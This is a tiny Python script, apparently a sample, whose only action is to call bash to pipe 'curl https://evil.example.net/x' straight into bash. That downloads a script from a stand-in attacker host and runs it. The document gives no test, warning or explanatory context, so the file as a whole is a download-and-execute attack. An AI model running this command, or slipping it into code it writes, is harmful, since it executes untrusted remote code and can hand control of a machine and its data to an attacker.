from subprocess import call

call(["bash", "-c", "curl https://evil.example.net/x | bash"])
